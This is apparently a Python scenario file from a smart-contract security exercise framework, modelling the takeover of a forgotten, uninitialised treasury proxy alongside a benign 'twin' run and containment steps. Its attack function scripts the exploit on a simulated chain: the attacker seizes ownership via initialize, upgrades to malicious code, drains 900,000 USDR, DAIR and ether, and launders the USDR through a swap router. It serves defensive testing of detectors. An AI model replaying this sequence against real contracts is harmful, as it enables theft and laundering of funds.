"""
A treasury's proxy was never initialised: a stranger makes himself its owner, replaces its code and empties it.

## Story
The script that created the treasury's proxy was to initialise it in a second transaction, and that one was never sent.
Nobody noticed for three months: a proxy takes payments whether or not it has an owner. 900 000 USDR, 100 000 DAIR and
50 ether have come together, and `initialize` is still open to the first who calls it.

## Steps
1. The attacker calls `initialize` with his own address, and is the owner. Nothing is lost yet.
2. He creates a contract of his own that is to be the treasury's new code.
3. As owner, he upgrades the proxy to it.
4. He calls its `drain`: everything the proxy holds is his.
5. He turns the USDR, which can be frozen, into ether, half at a time.

## Honest twin
The team finds out first. It initialises the proxy late, upgrades it to the treasury's real second version, and with a
function of that version moves everything, at once, to the Safe.

## Containment
Before step 1, initialise it: whoever is owner can then pause and move the funds, and the attacker's call reverts with
InvalidInitialization. Between steps 1 and 3 the attacker is the owner: nothing stops him, and only what tokens can
freeze is saved afterwards.

## References
- OpenZeppelin Contracts, Initializable and UUPSUpgradeable; ERC-1967.
- https://scs.owasp.org/sctop10/
"""

from dataclasses import dataclass

from tocsin.chain.contract import Account, Contract, Transaction, pay
from tocsin.exercise.play import Play
from tocsin.exercise.scenario import Expected, Scenario
from tocsin.exercise.scene.people import ETHER
from tocsin.exercise.scene.safe import ZERO
from tocsin.exercise.scene.tokens import DOLLAR
from tocsin.exercise.scene.uniswap_v2 import MOST, NEVER
from tocsin.exercise.taxonomy import Tag
from tocsin.exercise.truth import ETHER_TOKEN, Truth, loss, step, told
from tocsin.model.priority import Priority

HELD_USDR, HELD_DAIR, HELD_WEI = 900_000 * DOLLAR, 100_000 * ETHER, 50 * ETHER
LAUNDERED = HELD_USDR // 2
"""What is turned into ether at a time."""
FORGOTTEN_SECONDS = 90 * 86_400


@dataclass(frozen=True, slots=True)
class Targets:
    """What the scenario is played on."""

    attacker: Account
    treasury: Contract
    """The proxy, with the interface it is to have."""


def prepare(play: Play) -> Targets:
    """The proxy is created, paid into, and forgotten."""
    home, tokens, founder = play.home, play.scene.tokens, play.scene.people.founder
    treasury = play.library.own("Treasury")
    code = home.deploy(founder, treasury, name="forgotten treasury's code")
    proxy = home.deploy(founder, play.library.own("LegacyProxy"), code, name="forgotten treasury")
    home.do(tokens.usdr.by(founder, "transfer", proxy, HELD_USDR))
    home.do(tokens.dair.by(founder, "transfer", proxy, HELD_DAIR))
    home.do(pay(founder, proxy, HELD_WEI))
    home.pass_time(FORGOTTEN_SECONDS)
    return Targets(home.account("attacker"), proxy.at(treasury))


def attack(play: Play, targets: Targets) -> Truth:
    """Initialise, upgrade, drain, launder."""
    home, tokens, attacker, treasury = play.home, play.scene.tokens, targets.attacker, targets.treasury
    taken_over = home.do(_initialisation(targets))
    malicious = home.deploy(attacker, play.library.own("MaliciousTreasury"), name="malicious treasury code")
    upgraded = home.do(treasury.by(attacker, "upgradeToAndCall", malicious, b""))
    held = {token: home.read(token, "balanceOf", treasury) for token in (tokens.usdr, tokens.dair)}
    wei = home.balance(treasury)
    drained = home.do(treasury.at(malicious.artefact).by(attacker, "drain", list(held), attacker))
    ether = loss(drained, ETHER_TOKEN, treasury, wei)
    approval, *swaps = (home.do(each) for each in _laundering(play, attacker))
    return told(
        scenario.id,
        attackers=(attacker, malicious),
        victims=(treasury,),
        steps=(
            step("makes itself the owner of the treasury that nobody initialised", taken_over),
            step("creates the code that is to replace the treasury's", home.creation(malicious)),
            step("replaces the treasury's code", upgraded),
            step(
                "takes all the treasury holds",
                drained,
                lost=[*(loss(drained, token, treasury, amount) for token, amount in held.items()), ether],
                gone=[ether],
            ),
            step("lets a router take its USDR", approval),
            *(
                step("turns half of the USDR into ether", each, gone=[loss(each, tokens.usdr, treasury, LAUNDERED)])
                for each in swaps
            ),
        ),
    )


def _initialisation(targets: Targets) -> Transaction:
    return targets.treasury.by(targets.attacker, "initialize", targets.attacker)


def _laundering(play: Play, attacker: Account) -> list[Transaction]:
    tokens, router = play.scene.tokens, play.scene.uniswap_v2.router
    path = [tokens.usdr, tokens.weth]
    swap = router.by(attacker, "swapExactTokensForETH", LAUNDERED, 0, path, attacker, NEVER)
    return [tokens.usdr.by(attacker, "approve", router, MOST), swap, swap]


def twin(play: Play, targets: Targets) -> None:
    """The founder does what was forgotten, upgrades, and moves everything to the Safe."""
    home, tokens, founder = play.home, play.scene.tokens, play.scene.people.founder
    play.knowledge.announce(home, targets.treasury, "CHG-18: the treasury is set up", becomes=founder)
    home.do(targets.treasury.by(founder, "initialize", founder))
    second = home.deploy(founder, play.library.own("TreasuryTwo"), name="treasury's second version")
    play.knowledge.announce(home, targets.treasury, "CHG-19: the treasury's second version", becomes=second)
    home.do(targets.treasury.by(founder, "upgradeToAndCall", second, b""))
    moved = ([tokens.usdr, tokens.dair, ZERO], [HELD_USDR, HELD_DAIR, HELD_WEI], play.scene.safe.wallet)
    home.do(targets.treasury.at(second.artefact).by(founder, "payAll", *moved))


def contain(play: Play, targets: Targets) -> str:
    """The founder initialises it for the Safe."""
    founder, safe = play.scene.people.founder, play.scene.safe.wallet
    play.home.do(targets.treasury.by(founder, "initialize", safe))
    return play.home.refused(_initialisation(targets))


scenario = Scenario(
    id="unguarded-initialise",
    priority=Priority.P1,
    tags=(Tag.UPGRADEABILITY, Tag.ACCESS_CONTROL, Tag.INITIAL_ACCESS, Tag.PRIVILEGE_ESCALATION, Tag.IMPACT),
    expects=Expected(detectors=("late-initialisation", "proxy-upgrade")),
    prepare=prepare,
    attack=attack,
    twin=twin,
    contain=contain,
)
